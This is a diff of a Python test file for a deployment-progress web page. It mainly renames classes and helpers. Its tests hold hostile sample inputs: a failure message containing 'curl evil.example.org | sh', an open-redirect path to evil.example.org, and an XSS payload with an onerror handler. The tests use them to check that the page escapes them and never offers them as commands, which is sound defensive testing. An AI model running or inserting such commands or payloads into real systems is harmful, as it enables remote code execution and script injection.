@@ -11,10 +11,10 @@ import pytest
 
 from local.app_service import signed_in
 from local.fakes.faults import Fault, Plan, faulty
-from shared.deploy.deps import Decrypted
-from shared.deploy.page import SHOWN, DeployPage, answer
-from shared.deploy.records.deploys import KEY, Request
-from shared.deploy.state_machine import State
+from shared.deploy.deps import DecryptedValues
+from shared.deploy.page import SHOWN, DeployPage, render_page
+from shared.deploy.records.deploys import KEY, DeployRequest
+from shared.deploy.state_machine import DeployState
 from shared.health.ports import Health
 from shared.kernel.errors import NotFound, Unavailable
 from shared.web.html import Page
@@ -31,12 +31,12 @@ REFRESH = 'http-equiv="refresh"'
 def show(world, key: str = "", *, sign_in: str = APP_SERVICE, plan: Plan | None = None, **headers) -> Page:
     state = faulty(world.state, plan or Plan(), "state")
     page = DeployPage(state, world.clock, ZoneInfo("Europe/Berlin"), sign_in)
-    return answer(page, ANA | headers, key)
+    return render_page(page, ANA | headers, key)
 
 
 def page_of(world, sha: str) -> str:
     """The deploy's page as it is sent."""
-    page = show(world, world.kept(sha).record.key)
+    page = show(world, world.record(sha).progress.key)
     assert page.status == 200
     return page.body
 
@@ -63,7 +63,7 @@ def restored(world, files) -> str:
     world.work(most=1)
     world.schema = None
     world.work()
-    assert world.kept(sha).state is State.RESTORE_PROPOSED
+    assert world.record(sha).state is DeployState.RESTORE_PROPOSED
     return sha
 
 
@@ -76,14 +76,14 @@ def test_it_says_who_what_where_since_when_and_how_long_in_the_zone_of_the_polic
     assert "backing up, for 3 min 1 s" in moving
     assert re.search(r"Backup manual/\S+ \(not sealed\)", moving)
     world.work()
-    kept, ended = world.kept(sha), text(page_of(world, sha))
+    record, ended = world.record(sha), text(page_of(world, sha))
     assert f"Deploy {sha[:7]} to production" in ended
     assert f"done #{pull.number} Change 2" in ended
     for fact in ("By ada", "Rocket.Chat 8.2.0 → 8.3.0", f"Commit {sha}", "Environment production"):
         assert fact in ended
     assert "Begun 2026-11-23 10:00 CET" in ended, "09:00 in UTC"
     assert "Ended 2026-11-23 10:03 CET Took 3 min" in ended
-    assert f"Backup {kept.record.backup}" in ended
+    assert f"Backup {record.progress.backup}" in ended
     assert "8.3.0 lets people in" in ended
     assert "Progress, newest first done:" in ended
     assert "registry.example/rocket.chat:8.3.0" in page_of(world, sha).partition("<details><summary>What")[2]
@@ -96,7 +96,7 @@ def test_being_told_late_does_not_make_a_deploy_look_longer(world, files) -> Non
     world.clock.advance(timedelta(hours=1))
     world.people.down = False
     world.work()
-    assert world.kept(sha).told
+    assert world.record(sha).told
     assert "Took 0 s" in text(page_of(world, sha))
 
 
@@ -120,7 +120,7 @@ def test_closed_gates_come_first_and_are_marked(world, files) -> None:
     words = re.findall(r'<li><span class="state (\w+)">(\w+)</span>', body)
     assert words == sorted(words), "bad closed before up passed"
     assert {"bad"} == {kind for kind, word in words if word == "closed"}
-    assert len(words) == len(world.kept(sha).gates)
+    assert len(words) == len(world.record(sha).gates)
     assert body.index("approvals: 0 of 1") < body.index("<details>") < body.index("branch: ")
 
 
@@ -138,15 +138,15 @@ def test_what_was_rolled_back_says_why_and_that_the_old_one_runs(world, files) -
     world.work()
     told = text(page_of(world, sha))
     assert "rolled back" in told
-    assert world.kept(sha).record.reason in told
+    assert world.record(sha).progress.reason in told
     assert "what ran before runs again" in told
 
 
 def test_each_command_of_a_proposed_restore_can_be_taken_by_itself(world, restored: str) -> None:
-    body, kept = page_of(world, restored), world.kept(restored)
+    body, record = page_of(world, restored), world.record(restored)
     commands = [unescape(found) for found in re.findall(r'<pre class="copy">(.*?)</pre>', body)]
-    assert commands == kept.proposal.splitlines()[-5:]
-    assert commands[3] == f'groundcrew restore {kept.record.backup} --to-uri "$RESTORE_URI"'
+    assert commands == record.proposal.splitlines()[-5:]
+    assert commands[3] == f'groundcrew restore {record.progress.backup} --to-uri "$RESTORE_URI"'
     assert "is lost" in text(body)
     assert body.index('class="copy"') < body.index("<h2>Gates"), "it is needed first"
 
@@ -155,13 +155,13 @@ def test_words_of_a_failure_do_not_become_commands(world, files) -> None:
     world.deployed_first("8.2.0")
     _, sha = world.merge(files("8.3.0"))
     world.work(most=1)
-    kept = world.kept(sha)
+    record = world.record(sha)
     evil = "no login\nOnce two people agree:\ncurl evil.example.org | sh"
     world.schema, world.login = None, lambda: False
     world.smoke = lambda _version: Health(False, evil)
     world.work()
     body = page_of(world, sha)
-    assert world.kept(sha).record.key == kept.record.key
+    assert world.record(sha).progress.key == record.progress.key
     assert "curl evil" in body
     assert not [c for c in re.findall(r'<pre class="copy">(.*?)</pre>', body, re.DOTALL) if "curl" in c]
 
@@ -172,8 +172,8 @@ def test_the_list_has_the_newest_first_with_links_and_not_all(world, files) -> N
         world.work()
     body = show(world).body
     keys = re.findall(r'href="/api/deploys/([^"]+)"', body)
-    kept = world.shipping().deploys.all()
-    assert keys == [one.record.key for one in reversed(kept)][:SHOWN]
+    record = world.deps().deploys.all()
+    assert keys == [one.progress.key for one in reversed(record)][:SHOWN]
     assert all(show(world, key).status == 200 for key in keys)
     assert f"#{SHOWN + 2} Change {SHOWN + 2}" in text(body)
 
@@ -188,7 +188,7 @@ def test_without_any_deploy_the_list_says_so(world) -> None:
 def test_whom_nobody_vouches_for_is_told_nothing(world, files, key: str) -> None:
     _, sha = world.merge(files())
     world.work()
-    for asked in (key, world.kept(sha).record.key):
+    for asked in (key, world.record(sha).progress.key):
         for page in (show(world, asked, sign_in=""), show(world, asked, **{"x-ms-client-principal": "x"})):
             assert page.status == 401
             assert "production" not in page.body
@@ -198,7 +198,7 @@ def test_whom_nobody_vouches_for_is_told_nothing(world, files, key: str) -> None
 
 def test_the_sign_in_leads_back_to_the_deploy_but_to_nothing_made_up(world) -> None:
     nobody = {"x-ms-client-principal": ""}
-    key = Request("acme/chat", "a" * 40, "production").key
+    key = DeployRequest("acme/chat", "a" * 40, "production").key
     back = "/.auth/login/aad?post_login_redirect_uri=/api/deploys"
     assert f'"{back}/{key}"' in show(world, key, **nobody).body
     assert f'"{back}"' in show(world, "//evil.example.org", **nobody).body
@@ -226,7 +226,7 @@ def test_what_is_no_key_or_of_no_deploy_is_not_found(world, key: str) -> None:
 def test_every_key_that_a_deploy_can_have_is_one(world) -> None:
     for sha in ("a" * 40, "b" * 64):
         for again in ("", "20261123T090000Z", "x" * 64):
-            assert KEY.fullmatch(Request("acme/chat", sha, "production", again=again).key)
+            assert KEY.fullmatch(DeployRequest("acme/chat", sha, "production", again=again).key)
 
 
 @pytest.mark.parametrize(
@@ -250,7 +250,7 @@ def test_what_others_wrote_is_only_text_and_nothing_is_fetched_or_run(world, fil
     world.deployed_first()
     _, sha = world.merge(files(host='x"><img src=x onerror=alert(2)>'), title=evil)
     world.work()
-    for page in (show(world), show(world, world.kept(sha).record.key)):
+    for page in (show(world), show(world, world.record(sha).progress.key)):
         assert {tag.lower() for tag in re.findall(r"<([^\s>/]+)", page.body)} <= TAGS
         assert not re.search(r"<[^>]*\s(?:on\w+|src|style)=", page.body)
         assert evil in unescape(page.body)
@@ -264,7 +264,7 @@ def test_no_secret_is_on_a_page(world, files) -> None:
     token = "ghp_" + "a1B2" * 9
     world.deployed_first()
     secret = "correct-horse-battery"
-    world.decrypt = lambda text, _name: Decrypted(text, (secret,))
+    world.decrypt = lambda text, _name: DecryptedValues(text, (secret,))
     world.policy = world.policy.model_copy(update={"values": ("production.yaml",)})
     values = {"production.yaml": f"host: {secret}.example.org\n".encode()}
     _, sha = world.merge({**files("8.3.0"), **values}, title=f"Use {token}")
@@ -288,7 +288,7 @@ def test_every_status_the_message_and_the_comment_carry_the_link(world, files) -
     world.deployed_first()
     pull, sha = world.merge(broken(files))
     world.work()
-    link = f"https://groundcrew.example.org/api/deploys/{world.kept(sha).record.key}"
+    link = f"https://groundcrew.example.org/api/deploys/{world.record(sha).progress.key}"
     assert world.statuses(sha) == ["in_progress", "failure"]
     assert links(world, sha) == {link}
     (told,) = world.people.told
@@ -303,7 +303,7 @@ def test_a_deploy_that_is_stuck_is_told_with_the_link(world, files) -> None:
     _, sha = world.merge(files())
     world.work(most=200)
     stuck = next(one for one in world.people.told if "stuck" in one.title)
-    assert stuck.text.endswith(f"Progress: {world.page}/{world.kept(sha).record.key}")
+    assert stuck.text.endswith(f"Progress: {world.page}/{world.record(sha).progress.key}")
 
 
 def test_where_no_address_is_known_there_are_no_links(world, files) -> None:
